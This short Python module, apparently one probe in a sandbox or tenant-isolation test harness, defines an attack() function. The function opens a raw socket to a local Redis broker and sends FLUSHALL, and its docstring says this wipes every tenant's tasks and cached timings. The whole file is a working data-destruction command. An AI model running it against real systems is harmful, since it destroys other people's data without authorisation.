"""TCP to the broker: FLUSHALL, every tenant's tasks and every cached timing gone."""
import _socket

NAME = "redis_flushall"


def attack():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(("127.0.0.1", int("{{REDIS_PORT}}")))
    s.sendall(b"*1\r\n$8\r\nFLUSHALL\r\n")
    return s.recv(64)
